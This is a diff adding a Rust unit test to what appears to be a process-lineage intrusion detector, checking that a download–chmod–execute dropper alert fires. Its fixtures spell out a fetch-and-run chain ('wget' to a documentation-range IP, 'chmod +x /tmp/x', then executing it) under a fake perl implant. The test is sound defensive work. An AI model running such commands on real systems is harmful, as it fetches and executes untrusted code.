@@ -354,3 +354,38 @@ fn tool_manager_shims_are_not_a_dropper() {
         titles(&alerts)
     );
 }
+
+#[test]
+fn dropper_steps_each_run_through_system_correlate_under_the_implant() {
+    const DROPPER: &str = "Download, chmod +x and Execution of a Tool in a Staging Location";
+    let implant = anc(1000, "/usr/bin/perl", &["perl", "-e", "..."]);
+    let wrapper = |pid: u32, cmd: &str| {
+        let sh = anc(pid, "/bin/sh", &["sh", "-c", cmd]);
+        lineage(&[sh, implant.clone()])
+    };
+    let mut download = open(0.0, 1002, "/usr/bin/wget", "/tmp/x", true);
+    super::merge(
+        &mut download,
+        wrapper(1001, "wget -qO /tmp/x http://198.51.100.2/x"),
+    );
+    let chmod = exec(
+        1.0,
+        1004,
+        "/usr/bin/chmod",
+        "chmod +x /tmp/x",
+        wrapper(1003, "chmod +x /tmp/x"),
+    );
+    let run_it = exec(
+        2.0,
+        1006,
+        "/tmp/x",
+        "/tmp/x",
+        wrapper(1005, "/tmp/x 2>/dev/null"),
+    );
+    let alerts = run(&mut builtin(), &[download, chmod, run_it]);
+    let hit = alerts
+        .iter()
+        .find(|a| a["rule"]["name"] == DROPPER)
+        .unwrap_or_else(|| panic!("no dropper alert: {:?}", titles(&alerts)));
+    assert_eq!(hit["process"]["pid"], 1006);
+}
